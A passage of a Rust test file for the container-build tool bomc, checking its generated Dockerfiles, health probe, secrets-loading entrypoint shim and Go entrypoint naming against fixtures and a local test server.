    health { path = "/health", interval = 3s, timeout = 1s, start_period = 10s, unhealthy = 2 }
  }
  service node_svc {
    build = node_app
    ports { http = 3000 }
    health { port = "http", interval = 5s }
  }
  service py_svc {
    build = py_app
    ports { http = 8000, metrics = 9100 }
    health { command = ["python", "-c", "import sys; sys.exit(0)"], interval = 5s }
  }
  service rb_svc {
    build = rb_app
    ports { http = 3000 }
  }
  job rb_migrate {
    build = rb_app
    command = ["bin/rails", "db:migrate"]
    env { DATABASE_PASSWORD = secret("all/db") }
  }
  service java_svc {
    build = java_app
    ports { http = 8080 }
    health { path = "/actuator/health", port = "http" }
  }
  service site {
    build = site_image
    ports { http = 8080 }
    health { path = "/", interval = 10s }
  }
  service plain {
    build = plain_app
    ports { http = 80 }
    health { command = ["CMD-SHELL", "test -f /tmp/ready || exit 1"] }
  }
  service py_worker {
    build = worker_app
    env { QUEUE_PASSWORD = secret("all/queue") }
  }
  service bare {
    build = bare_image
    command = ["/bin/sleep", "infinity"]
    env { TOKEN = secret("all/token") }
  }
}

image org {
  from = "debian:12.5-slim"
  user = 20000
  steps = ["mkdir -p /etc/org && echo org > /etc/org/name"]
}
image go_app { from = org, template = "go", context = "./go", args { GO_VERSION = "1.22.2" } }
image node_app { from = "node:20.11.1-bookworm-slim", template = "node", context = "./node" }
image py_runtime {
  from = "python:3.12.2-slim-bookworm"
  onbuild = ["COPY requirements.txt /app/requirements.txt", "RUN pip install --no-cache-dir -r /app/requirements.txt", "WORKDIR /app", "ENV APP_HOME=/app", "EXPOSE 8000"]
}
image py_app { from = py_runtime, template = "python", context = "./py", command = ["python", "-m", "app"] }
image rb_app { from = "ruby:3.3.0-slim-bookworm", template = "ruby", context = "./rb", steps = ["bin/rails assets:precompile"] }
image java_app { from = "eclipse-temurin:21.0.2_13-jre", template = "java", context = "./java" }
image site_image { from = "nginxinc/nginx-unprivileged:1.25.4-alpine", template = "static", context = "./site" }
image plain_app { from = py_runtime, context = "./plain", command = ["python", "-m", "plain"] }
image worker_app { from = py_app }
image bare_image { from = "debian:12.5-slim" }
"#;

#[test]
fn every_template_passes_hadolint_and_does_what_it_says() {
    let dir = temp_dir("docker-templates");
    std::fs::write(dir.join("all.bom"), ALL_TEMPLATES).expect("write");
    let run = bomc(
        &dir,
        &[
            "build",
            "all.bom",
            "--target",
            "dockerfile",
            "--out",
            "out",
            "--now",
            NOW,
        ],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    let env_dir = dir.join("out/all_templates/default");
    let files = dockerfiles(&env_dir);
    let names: Vec<&str> = files.keys().map(String::as_str).collect();
    assert_eq!(
        names,
        [
            "bare_image",
            "go_app",
            "java_app",
            "node_app",
            "org",
            "plain_app",
            "py_app",
            "py_runtime",
            "rb_app",
            "site_image",
            "worker_app"
        ]
    );
    let (ok, report) = hadolint(
        &dockerfile_paths(&[env_dir]),
        &["--failure-threshold", "warning"],
    );
    assert!(ok, "hadolint:\n{report}");
    for line in report.lines() {
        assert!(
            !line.contains(" warning:") && !line.contains(" error:"),
            "hadolint: {line}"
        );
    }
    let build_stage = |image: &str| -> String {
        instructions(&files[image])
            .iter()
            .find(|i| i.keyword == "FROM" && i.rest.ends_with(" AS build"))
            .map(|i| i.rest.trim_end_matches(" AS build").to_string())
            .unwrap_or_else(|| panic!("{image} has no build stage"))
    };
    assert_eq!(build_stage("go_app"), "golang:1.22.2-bookworm");
    assert_eq!(build_stage("node_app"), "node:20.11.1-bookworm");
    assert_eq!(build_stage("py_app"), "python:3.12.2-bookworm");
    assert_eq!(build_stage("rb_app"), "ruby:3.3.0-bookworm");
    assert_eq!(build_stage("java_app"), "maven:3.9.6-eclipse-temurin-21");
    let last_user = |image: &str| {
        instructions(&files[image])
            .iter()
            .rev()
            .find(|i| i.keyword == "USER")
            .map(|i| i.rest.clone())
    };
    // The user comes from the nearest image that sets one.
    assert_eq!(last_user("org").as_deref(), Some("20000:20000"));
    assert_eq!(last_user("go_app").as_deref(), Some("20000:20000"));
    assert_eq!(last_user("node_app").as_deref(), Some("10001:10001"));
    // Health checks: HTTP, TCP, a command, none.
    let (go, cmd) = healthcheck(&files["go_app"]).expect("go_app");
    assert_eq!(go.get("start-period").map(String::as_str), Some("10s"));
    assert_eq!(go.get("retries").map(String::as_str), Some("2"));
    assert_eq!(cmd[1], "http://127.0.0.1:8080/health");
    let (_, cmd) = healthcheck(&files["node_app"]).expect("node_app");
    assert_eq!(cmd[1], "tcp://127.0.0.1:3000");
    let (_, cmd) = healthcheck(&files["py_app"]).expect("py_app");
    assert_eq!(cmd, ["python", "-c", "import sys; sys.exit(0)"]);
    assert!(
        !files["py_app"].contains("AS probe"),
        "a command needs no probe"
    );
    assert_eq!(healthcheck(&files["rb_app"]), None);
    let (_, cmd) = healthcheck(&files["java_app"]).expect("java_app");
    assert_eq!(cmd[1], "http://127.0.0.1:8080/actuator/health");
    // EXPOSE: every port of every component built from the image.
    let exposed = |image: &str| -> Vec<String> {
        instructions(&files[image])
            .iter()
            .filter(|i| i.keyword == "EXPOSE")
            .map(|i| i.rest.clone())
            .collect()
    };
    assert_eq!(exposed("py_app"), ["8000", "9100"]);
    assert_eq!(exposed("rb_app"), ["3000"]);
    // ONBUILD steps run as root, between a switch to root and back.
    let onbuild: Vec<String> = instructions(&files["py_runtime"])
        .iter()
        .filter(|i| i.keyword == "ONBUILD")
        .map(|i| i.rest.clone())
        .collect();
    assert_eq!(onbuild.first().map(String::as_str), Some("USER 0:0"));
    assert_eq!(onbuild.last().map(String::as_str), Some("USER 10001:10001"));
    // A plain image whose parent copies the code (ONBUILD) does not copy it again.
    assert!(
        !instructions(&files["plain_app"])
            .iter()
            .any(|i| i.keyword == "COPY" && i.rest.starts_with('.'))
    );
    // A shell check runs as `/bin/sh -c`, its command one JSON string; no probe.
    let (_, cmd) = healthcheck(&files["plain_app"]).expect("plain_app");
    assert_eq!(cmd, ["/bin/sh", "-c", "test -f /tmp/ready || exit 1"]);
    assert!(!files["plain_app"].contains("AS probe"));
    // Secrets: the shim runs first, before what the image ran without it;
    // the CMD stays, and is written out when it would be inherited.
    let shim = |rest: &[&str]| {
        let mut argv = vec![SHIM.to_string()];
        argv.extend(rest.iter().map(|s| s.to_string()));
        Some(argv)
    };
    let argv = |items: &[&str]| Some(items.iter().map(|s| s.to_string()).collect::<Vec<_>>());
    assert_eq!(process(&files["go_app"]), (shim(&["/app/go"]), None));
    assert_eq!(
        process(&files["rb_app"]),
        (
            shim(&[]),
            argv(&["bin/rails", "server", "--binding", "0.0.0.0"])
        )
    );
    assert_eq!(
        process(&files["worker_app"]),
        (shim(&[]), argv(&["python", "-m", "app"]))
    );
    assert!(
        files["worker_app"].contains("# The CMD of `py_app`, written out"),
        "{}",
        files["worker_app"]
    );
    assert_eq!(process(&files["bare_image"]), (shim(&[]), None));
    assert!(
        files["bare_image"].contains("resets the CMD inherited from debian:12.5-slim"),
        "{}",
        files["bare_image"]
    );
    // Without secrets, no shim.
    assert_eq!(process(&files["node_app"]), (None, argv(&["node", "."])));
    assert_eq!(
        process(&files["py_app"]),
        (None, argv(&["python", "-m", "app"]))
    );
    // The probe stage builds what the image needs, and only that.
    for (image, probe, entrypoint) in [
        ("go_app", true, true),
        ("rb_app", false, true),
        ("node_app", true, false),
        ("py_app", false, false),
    ] {
        let text = &files[image];
        assert_eq!(copies(text, PROBE), probe, "{image}:\n{text}");
        assert_eq!(copies(text, SHIM), entrypoint, "{image}:\n{text}");
        assert_eq!(
            text.contains("-o /bomc-healthcheck "),
            probe,
            "{image}:\n{text}"
        );
        assert_eq!(
            text.contains("-o /bomc-entrypoint "),
            entrypoint,
            "{image}:\n{text}"
        );
        assert_eq!(
            text.contains(" AS probe"),
            probe || entrypoint,
            "{image}:\n{text}"
        );
    }
}

// ---------------------------------------------------------------------------
// bomc's helpers: the health probe and the secrets shim

const PROBE: &str = "/usr/local/bin/bomc-healthcheck";
const SHIM: &str = "/usr/local/bin/bomc-entrypoint";
/// Where compose mounts the secrets the shim reads.
const SHIM_DIR: &str = "/run/bomc/env/";

/// The instructions of the run stage (from the last FROM).
fn run_stage(text: &str) -> Vec<Instruction> {
    let all = instructions(text);
    let last = all
        .iter()
        .rposition(|i| i.keyword == "FROM")
        .expect("a FROM");
    all[last..].to_vec()
}

/// Whether the run stage copies the helper at `path` from the probe stage,
/// and the probe stage builds it.
fn copies(text: &str, path: &str) -> bool {
    let file = path.rsplit('/').next().expect("a file name");
    let copied = run_stage(text)
        .iter()
        .any(|i| i.keyword == "COPY" && i.rest == format!("--from=probe /{file} {path}"));
    if copied {
        assert!(
            instructions(text)
                .iter()
                .any(|i| i.keyword == "FROM" && i.rest.ends_with(" AS probe")),
            "{file} is copied from a probe stage that does not exist:\n{text}"
        );
        assert!(
            text.contains(&format!("-o /{file} ")),
            "the probe stage does not build {file}:\n{text}"
        );
    }
    copied
}

/// The ENTRYPOINT and CMD of the run stage, decoded.
fn process(text: &str) -> (Option<Vec<String>>, Option<Vec<String>>) {
    let stage = run_stage(text);
    let last = |keyword: &str| {
        stage
            .iter()
            .rev()
            .find(|i| i.keyword == keyword)
            .map(|i| exec(&i.rest))
    };
    (last("ENTRYPOINT"), last("CMD"))
}

/// Component → the image definition it is built from, as the landscape says.
fn built_from(model: &bomc::model::Landscape) -> BTreeMap<String, String> {
    model
        .components
        .iter()
        .filter_map(|c| match c.settings.get("build") {
            Some(bomc::model::Value::Image(i)) => Some((c.name.clone(), i.clone())),
            _ => None,
        })
        .collect()
}

/// compose.yaml of an environment folder, as JSON.
fn compose_file(dir: &Path) -> serde_json::Value {
    let text = std::fs::read_to_string(dir.join("compose.yaml")).expect("compose.yaml written");
    serde_yaml_ng::from_str(&text).expect("compose.yaml is YAML")
}

/// Every ECS container definition of a CloudFormation template.
fn containers(template: &serde_json::Value) -> Vec<serde_json::Value> {
    template["Resources"]
        .as_object()
        .expect("Resources")
        .values()
        .filter(|r| r["Type"] == "AWS::ECS::TaskDefinition")
        .flat_map(|r| {
            r["Properties"]["ContainerDefinitions"]
                .as_array()
                .cloned()
                .unwrap_or_default()
        })
        .collect()
}

fn calls_probe(command: &serde_json::Value) -> bool {
    command.as_array().is_some_and(|c| {
        c.iter()
            .any(|w| w.as_str().is_some_and(|w| w.contains(PROBE)))
    })
}

/// The contract behind every health check that calls the probe: compose and
/// ECS run `/usr/local/bin/bomc-healthcheck` in a container of the image the
/// component is built from, so that image carries it — also when the image
/// itself declares `HEALTHCHECK NONE` because its components disagree, as
/// fooda's `fooda_app` does (`web` checks over HTTP, `worker` not at all,
/// `migrate` is a job).
#[test]
fn every_image_carries_the_probe_its_components_check_with() {
    let built = build_examples(
        "compose,cloudformation,dockerfile",
        &temp_dir("docker-probe-contract"),
    );
    assert!(built.len() >= 19, "only {} environments built", built.len());
    let mut checked = 0;
    let mut fooda_app = 0;
    for (example, env, dir) in &built {
        let model = landscape(example, env);
        let images = built_from(&model);
        let files = dockerfiles(dir);
        // Component → the targets whose check of it calls the probe.
        let mut probed: BTreeMap<String, Vec<&str>> = BTreeMap::new();
        let compose = compose_file(dir);
        for (name, service) in compose["services"].as_object().expect("services") {
            if calls_probe(&service["healthcheck"]["test"]) {
                probed.entry(name.clone()).or_default().push("compose");
            }
        }
        for container in containers(&crate::template(dir)) {
            if calls_probe(&container["HealthCheck"]["Command"]) {
                let name = container["Name"].as_str().expect("Name").to_string();
                probed.entry(name).or_default().push("ECS");
            }
        }
        for (component, targets) in &probed {
            let what = format!(
                "{example} --env {env}: `{component}` ({})",
                targets.join(", ")
            );
            let image = images
                .get(component)
                .unwrap_or_else(|| panic!("{what} runs the probe in an image bomc does not build"));
            let text = &files[image];
            assert!(
                copies(text, PROBE),
                "{what} runs {PROBE}, which images/{image}/Dockerfile does not carry:\n{text}"
            );
            checked += 1;
            if example == "fooda" && image == "fooda_app" {
                assert!(targets.len() == 2, "{what}: compose and ECS both check it");
                fooda_app += 1;
            }
        }
    }
    assert!(checked >= 20, "only {checked} components checked");
    assert!(fooda_app >= 3, "fooda's web was checked {fooda_app} times");
}

/// A list setting of an image definition, as plain strings.
fn image_list(model: &bomc::model::Landscape, image: &str, setting: &str) -> Option<Vec<String>> {
    let image = model.images.iter().find(|i| i.name == image)?;
    match image.settings.get(setting)? {
        bomc::model::Value::List(items) => Some(
            items
                .iter()
                .map(|v| v.as_str().expect("a plain string").to_string())
                .collect(),
        ),
        other => panic!("`{setting}` of {image:?} is {other:?}"),
    }
}

/// The contract behind secrets: compose mounts each secret a component reads
/// at /run/bomc/env/<VARIABLE>, ECS sets <VARIABLE>; the program reads the
/// same variable on both because the image it is built from starts it
/// through bomc-entrypoint — in front of what the image ran before — and
/// neither target replaces that ENTRYPOINT.
#[test]
fn every_image_whose_components_read_secrets_starts_them_through_the_shim() {
    let built = build_examples(
        "compose,cloudformation,dockerfile",
        &temp_dir("docker-shim-contract"),
    );
    assert!(built.len() >= 19, "only {} environments built", built.len());
    let mut checked = 0;
    let mut mounted = 0;
    for (example, env, dir) in &built {
        let model = landscape(example, env);
        let images = built_from(&model);
        let files = dockerfiles(dir);
        // Component → why it reads secrets.
        let mut readers: BTreeMap<String, Vec<&str>> = BTreeMap::new();
        for c in &model.components {
            let secrets = c
                .settings
                .get("env")
                .and_then(|e| e.as_map())
                .is_some_and(|e| {
                    e.values()
                        .any(|v| matches!(v, bomc::model::Value::Secret(_)))
                });
            if secrets && images.contains_key(&c.name) {
                readers.entry(c.name.clone()).or_default().push("its env");
            }
        }
        let compose = compose_file(dir);
        for (name, service) in compose["services"].as_object().expect("services") {
            let targets: Vec<&str> = service["secrets"]
                .as_array()
                .into_iter()
                .flatten()
                .filter_map(|s| s["target"].as_str())
                .filter(|t| t.starts_with(SHIM_DIR))
                .collect();
            if targets.is_empty() {
                continue;
            }
            for t in &targets {
                let variable = &t[SHIM_DIR.len()..];
                assert!(
                    variable.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
                        && variable
                            .chars()
                            .all(|c| c.is_ascii_alphanumeric() || c == '_'),
                    "{example} --env {env}: `{name}` mounts {t}, which the shim refuses"
                );
            }
            assert!(
                service.get("entrypoint").is_none(),
                "{example} --env {env}: `{name}` replaces the shim with `entrypoint:`"
            );
            readers.entry(name.clone()).or_default().push("compose");
            mounted += 1;
        }
        for container in containers(&crate::template(dir)) {
            let name = container["Name"].as_str().expect("Name").to_string();
            let secrets = container["Secrets"]
                .as_array()
                .is_some_and(|s| !s.is_empty());
            if secrets && images.contains_key(&name) {
                assert!(
                    container.get("EntryPoint").is_none(),
                    "{example} --env {env}: ECS `{name}` replaces the shim with EntryPoint"
                );
                readers.entry(name).or_default().push("ECS");
            }
        }
        for (component, why) in &readers {
            let what = format!("{example} --env {env}: `{component}` ({})", why.join(", "));
            let image = images.get(component).unwrap_or_else(|| {
                panic!("{what} reads /run/bomc/env from an image bomc does not build")
            });
            let text = &files[image];
            assert!(
                copies(text, SHIM),
                "{what}: images/{image}/Dockerfile has no shim:\n{text}"
            );
            let (entrypoint, command) = process(text);
            let entrypoint = entrypoint.unwrap_or_else(|| panic!("{what}: no ENTRYPOINT:\n{text}"));
            assert_eq!(entrypoint[0], SHIM, "{what}:\n{text}");
            if let Some(own) = image_list(&model, image, "entrypoint") {
                assert_eq!(
                    entrypoint[1..],
                    own[..],
                    "{what}: its own entrypoint follows the shim"
                );
            }
            if let Some(own) = image_list(&model, image, "command") {
                assert_eq!(command.as_ref(), Some(&own), "{what}: its CMD stays");
            }
            checked += 1;
        }
    }
    assert!(checked >= 30, "only {checked} components checked");
    assert!(
        mounted >= 20,
        "only {mounted} compose services mount secrets for the shim"
    );
}

/// The Go toolchain, if this machine has one (scripts/test installs Debian's golang-go).
fn go() -> Option<PathBuf> {
    let found = Command::new("go")
        .arg("version")
        .output()
        .is_ok_and(|o| o.status.success());
    found.then(|| PathBuf::from("go"))
}

/// Runs `command`, a Dockerfile's `go build` line, with `sh` in `dir`: Go's
/// caches in `cache`, offline, with the toolchain installed here.
fn go_sh(command: &str, dir: &Path, cache: &Path) -> std::process::Output {
    Command::new("sh")
        .arg("-c")
        .arg(command)
        .current_dir(dir)
        .env("GOCACHE", cache.join("build"))
        .env("GOPATH", cache.join("path"))
        .env("GOFLAGS", "")
        .env("GOTOOLCHAIN", "local")
        .env("GOPROXY", "off")
        .env("GO111MODULE", "on")
        .output()
        .expect("sh runs")
}

/// Runs the probe stage's RUN instructions of `text` as written — the Go
/// sources printed by `printf`, compiled with CGO_ENABLED=0 — with the
/// binaries written to `bin` instead of `/`: name → path.
fn build_helpers(text: &str, work: &Path) -> BTreeMap<String, PathBuf> {
    let all = instructions(text);
    let start = all
        .iter()
        .position(|i| i.keyword == "FROM" && i.rest.ends_with(" AS probe"))
        .unwrap_or_else(|| panic!("no probe stage:\n{text}"));
    let bin = work.join("bin");
    let cache = work.join("cache");
    std::fs::create_dir_all(&bin).expect("bin");
    let mut built = BTreeMap::new();
    let mut workdir = work.to_path_buf();
    for i in all[start + 1..].iter().take_while(|i| i.keyword != "FROM") {
        match i.keyword.as_str() {
            "WORKDIR" => {
                workdir = work.join(i.rest.trim_start_matches('/'));
                std::fs::create_dir_all(&workdir).expect("workdir");
            }
            "RUN" => {
                let name = i
                    .rest
                    .split(" -o /")
                    .nth(1)
                    .and_then(|s| s.split_whitespace().next())
                    .unwrap_or_else(|| panic!("RUN builds nothing: {}", i.rest))
                    .to_string();
                let command = i.rest.replace(
                    &format!(" -o /{name} "),
                    &format!(" -o {} ", bin.join(&name).display()),
                );
                let run = go_sh(&command, &workdir, &cache);
                assert!(
                    run.status.success(),
                    "building {name} failed:\n{}\n{}",
                    String::from_utf8_lossy(&run.stdout),
                    String::from_utf8_lossy(&run.stderr)
                );
                built.insert(name.clone(), bin.join(&name));
            }
            other => panic!("unexpected {other} in the probe stage"),
        }
    }
    built
}

/// Runs `program args…` with BOMC_ENV_DIR = `env_dir`: (exit code, stdout,
/// stderr, the child's PID).
fn run_with(program: &Path, env_dir: &Path, args: &[&str]) -> (i32, String, String, u32) {
    let child = Command::new(program)
        .args(args)
        .env("BOMC_ENV_DIR", env_dir)
        .env("NAME", "from the environment")
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("the helper starts");
    let pid = child.id();
    let out = child.wait_with_output().expect("the helper ends");
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
        pid,
    )
}

/// The two Go programs bomc writes into Dockerfiles compile, and do what the
/// Dockerfile says: the shim exports each file of its folder as the variable
/// it names (trailing newlines dropped), refuses other names, and executes
/// the command in its own place; the probe answers for TCP and HTTP.
#[test]
fn the_helpers_compile_and_do_what_they_say() {
    if go().is_none() {
        eprintln!(
            "SKIPPED the_helpers_compile_and_do_what_they_say: no `go` on PATH (scripts/test installs golang-go)"
        );
        return;
    }
    let out = temp_dir("docker-helpers");
    let run = bomc(
        &root(),
        &[
            "build",
            "examples/fooda.bom",
            "--env",
            "production",
            "--target",
            "dockerfile",
            "--out",
            out.to_str().expect("utf-8"),
            "--now",
            NOW,
        ],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    let text = &dockerfiles(&out.join("fooda/production"))["fooda_app"];
    let helpers = build_helpers(text, &out.join("work"));
    assert_eq!(
        helpers.keys().map(String::as_str).collect::<Vec<_>>(),
        ["bomc-entrypoint", "bomc-healthcheck"]
    );
    let shim = &helpers["bomc-entrypoint"];
    let probe = &helpers["bomc-healthcheck"];

    // The shim: files become variables, then the command runs as the same process.
    let env = out.join("env");
    std::fs::create_dir_all(env.join("nested")).expect("env dir");
    std::fs::write(env.join("NAME"), "s3cret value\n\n").expect("write");
    std::fs::write(env.join("_Other_2"), "line 1\nline 2 $HOME ' \"\n").expect("write");
    std::fs::write(env.join("nested/IGNORED"), "x").expect("write");
    let script = r#"echo "$$"; printf '%s|%s|%s|%s' "$NAME" "$_Other_2" "${nested:-}" "$1""#;
    let (code, stdout, stderr, pid) = run_with(shim, &env, &["sh", "-c", script, "sh", "arg 1"]);
    assert_eq!(code, 0, "{stderr}");
    let (first, rest) = stdout.split_once('\n').expect("two lines");
    assert_eq!(
        first,
        pid.to_string(),
        "the command runs in the shim's place"
    );
    assert_eq!(rest, "s3cret value|line 1\nline 2 $HOME ' \"||arg 1");
    // Its exit code is the command's.
    let (code, _, _, _) = run_with(shim, &env, &["sh", "-c", "exit 7"]);
    assert_eq!(code, 7);
    // Without the folder it only runs the command.
    let (code, stdout, _, _) = run_with(
        shim,
        &out.join("missing"),
        &["sh", "-c", "printf %s \"$NAME\""],
    );
    assert_eq!((code, stdout.as_str()), (0, "from the environment"));
    // A file name that is not a variable name stops it before the command runs.
    for bad in ["BAD-NAME", "1ABC", "dot.name"] {
        let dir = out.join(format!("bad-{bad}"));
        std::fs::create_dir_all(&dir).expect("dir");
        std::fs::write(dir.join(bad), "x").expect("write");
        let (code, stdout, stderr, _) = run_with(shim, &dir, &["sh", "-c", "echo ran"]);
        assert_eq!(code, 2, "{bad}: {stderr}");
        assert!(stdout.is_empty(), "{bad}: the command ran");
        assert!(
            stderr.contains("bomc-entrypoint") && stderr.contains(bad),
            "{stderr}"
        );
    }
    // No command, or one that does not exist: exit 2 with a message.
    let (code, _, stderr, _) = run_with(shim, &env, &[]);
    assert!(
        code == 2 && stderr.contains("no command"),
        "{code} {stderr}"
    );
    let (code, _, stderr, _) = run_with(shim, &env, &["no-such-program-bomc"]);
    assert!(
        code == 2 && stderr.contains("no-such-program-bomc"),
        "{code} {stderr}"
    );

    // The probe: TCP, then HTTP against a local server.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("listen");
    let port = listener.local_addr().expect("addr").port();
    let probe_run = |url: &str| run_with(probe, &env, &[url]).0;
    assert_eq!(probe_run(&format!("tcp://127.0.0.1:{port}")), 0);
    let server = std::thread::spawn(move || {
        use std::io::{BufRead, BufReader, Write};
        // The TCP probe's connection (never used), then two HTTP requests.
        for _ in 0..3 {
            let (mut stream, _) = listener.accept().expect("accept");
            let mut line = String::new();
            let mut reader = BufReader::new(stream.try_clone().expect("clone"));
            if reader.read_line(&mut line).unwrap_or(0) == 0 {
                continue;
            }
            let status = if line.starts_with("GET /health ") {
                "200 OK"
            } else {
                "503 Service Unavailable"
            };
            write!(
                stream,
                "HTTP/1.1 {status}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
            )
            .expect("answer");
        }
    });
    let healthy = probe_run(&format!("http://127.0.0.1:{port}/health"));
    let unhealthy = probe_run(&format!("http://127.0.0.1:{port}/broken"));
    server.join().expect("server");
    assert_eq!((healthy, unhealthy), (0, 1));
    let closed = std::net::TcpListener::bind("127.0.0.1:0").expect("listen");
    let closed_port = closed.local_addr().expect("addr").port();
    drop(closed);
    assert_eq!(probe_run(&format!("tcp://127.0.0.1:{closed_port}")), 1);
    assert_eq!(run_with(probe, &env, &[]).0, 2);
}

/// The `go` template's ENTRYPOINT names the binary `go build` makes of the
/// context's root package: after the module its `go.mod` declares (a
/// major-version suffix left out), not after the folder, which here is
/// `app`. Where Go is installed, the build stage's own `go build` line is run
/// on the context, and the binary named is among those it made.
#[test]
fn the_go_entrypoint_is_the_binary_go_build_makes() {
    let dir = temp_dir("go-module-binary");
    let app = dir.join("app");
    std::fs::create_dir_all(app.join("cmd/migrate")).expect("context");
    std::fs::write(
        app.join("go.mod"),
        "// The shop's API.\nmodule \"example.com/acme/auth-service/v3\" // renamed in 2025\n\ngo 1.19\n",
    )
    .expect("go.mod");
    std::fs::write(app.join("main.go"), "package main\n\nfunc main() {}\n").expect("main.go");
    std::fs::write(
        app.join("cmd/migrate/main.go"),
        "package main\n\nfunc main() {}\n",
    )
    .expect("migrate");
    std::fs::write(
        dir.join("shop.bom"),
        "landscape shop {\n  service api {\n    build = api_image\n    ports { http = 8080 }\n  }\n}\n\nimage api_image {\n  from = \"debian:12.5-slim\"\n  template = \"go\"\n  context = \"./app\"\n}\n",
    )
    .expect("landscape");
    let (entrypoint, binaries) = go_entrypoint_and_binaries(&dir, &app);
    assert_eq!(entrypoint, "[\"/app/auth-service\"]");
    if let Some(binaries) = binaries {
        assert_eq!(binaries, ["auth-service", "migrate"]);
    }
}

/// The ENTRYPOINT of `shop.bom`'s image `api_image` in `dir`, built from
/// the context `app`, and — where Go is installed — the binaries its build
/// stage's own `go build` line makes of that context.
fn go_entrypoint_and_binaries(dir: &Path, app: &Path) -> (String, Option<Vec<String>>) {
    let _ = std::fs::remove_dir_all(dir.join("out"));
    let out = dockerfile_target(dir, "shop.bom");
    let text = &dockerfiles(&out.join("shop/default"))["api_image"];
    let all = instructions(text);
    let entrypoint = all
        .iter()
        .find(|i| i.keyword == "ENTRYPOINT")
        .unwrap_or_else(|| panic!("no ENTRYPOINT:\n{text}"))
        .rest
        .clone();
    if go().is_none() {
        eprintln!("SKIPPED running go build: no `go` on PATH (scripts/test installs golang-go)");
        return (entrypoint, None);
    }
    let build = all
        .iter()
        .find(|i| i.keyword == "RUN" && i.rest.contains("go build") && i.rest.contains("/out/"))
        .unwrap_or_else(|| panic!("no build line:\n{text}"));
    let made = dir.join("made");
    let _ = std::fs::remove_dir_all(&made);
    let command = build
        .rest
        .replace(" /out/ ", &format!(" {}/ ", made.display()));
    let ran = go_sh(&command, app, &dir.join("cache"));
    assert!(
        ran.status.success(),
        "{command}:\n{}",
        String::from_utf8_lossy(&ran.stderr)
    );
    let mut binaries: Vec<String> = std::fs::read_dir(&made)
        .expect("binaries")
        .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
        .collect();
    binaries.sort();
    (entrypoint, Some(binaries))
}

/// A context whose root is no main package (a library, and a generator
/// `//go:build ignore` keeps out of builds) runs its one main package,
/// named as `go build` names it; `testdata` is not built. With two, which
/// one runs is not known: E0327 names both, and `entrypoint` settles it;
/// with none, E0327 says nothing would run.
#[test]
fn a_go_context_without_a_root_main_runs_its_one_main_package() {
    let dir = temp_dir("go-main-below");
    let app = dir.join("app");
    for folder in ["cmd/server/v2", "testdata/fixture", "internal/util"] {
        std::fs::create_dir_all(app.join(folder)).expect("context");
    }
    let files = [
        ("go.mod", "module example.com/shop\n\ngo 1.19\n"),
        ("shop.go", "// Package shop is the library.\npackage shop\n"),
        (
            "gen.go",
            "//go:build ignore\n\n// Generates tables.\npackage main\n\nfunc main() {}\n",
        ),
        (
            "cmd/server/v2/main.go",
            "/* The server. */\npackage main\n\nfunc main() {}\n",
        ),
        (
            "testdata/fixture/main.go",
            "package main\n\nfunc main() {}\n",
        ),
        ("internal/util/util.go", "package util\n"),
    ];
    for (path, text) in files {
        std::fs::write(app.join(path), text).expect("file");
    }
    let landscape = |image_settings: &str| {
        format!(
            "landscape shop {{\n  service api {{\n    build = api_image\n    ports {{ http = 8080 }}\n  }}\n}}\n\nimage api_image {{\n  from = \"debian:12.5-slim\"\n  template = \"go\"\n  context = \"./app\"\n{image_settings}}}\n"
        )
    };
    std::fs::write(dir.join("shop.bom"), landscape("")).expect("landscape");
    let (entrypoint, binaries) = go_entrypoint_and_binaries(&dir, &app);
    assert_eq!(entrypoint, "[\"/app/server\"]");
    if let Some(binaries) = binaries {
        assert_eq!(binaries, ["server"]);
    }

    std::fs::create_dir_all(app.join("cmd/migrate")).expect("context");
    std::fs::write(
        app.join("cmd/migrate/main.go"),
        "package main\n\nfunc main() {}\n",
    )
    .expect("file");
    for args in [
        &["check", "shop.bom"][..],
        &["build", "shop.bom", "--out", "refused"],
    ] {
        let refused = bomc(&dir, args);
        assert_eq!(refused.code, 1, "{}", refused.stderr);
        for said in [
            "E0327",
            "image `api_image` builds 2 binaries",
            "`entrypoint = [\"/app/migrate\"]`",
            "`entrypoint = [\"/app/server\"]`",
        ] {
            assert!(refused.stderr.contains(said), "{said}: {}", refused.stderr);
        }
    }
    assert!(!dir.join("refused").exists());
    std::fs::write(
        dir.join("shop.bom"),
        landscape("  entrypoint = [\"/app/migrate\"]\n"),
    )
    .expect("landscape");
    let (entrypoint, binaries) = go_entrypoint_and_binaries(&dir, &app);
    assert!(entrypoint.ends_with("\"/app/migrate\"]"), "{entrypoint}");
    if let Some(binaries) = binaries {
        assert_eq!(binaries, ["migrate", "server"]);
    }

    // No main package left but the ignored generator's and testdata's:
    // nothing would run.
    for main in ["cmd/server/v2/main.go", "cmd/migrate/main.go"] {
        std::fs::remove_file(app.join(main)).expect("removed");
    }
    std::fs::write(dir.join("shop.bom"), landscape("")).expect("landscape");
    let refused = bomc(&dir, &["check", "shop.bom"]);
    assert_eq!(refused.code, 1, "{}", refused.stderr);
    for said in ["E0327", "image `api_image` builds no binary"] {
        assert!(refused.stderr.contains(said), "{said}: {}", refused.stderr);
    }
}
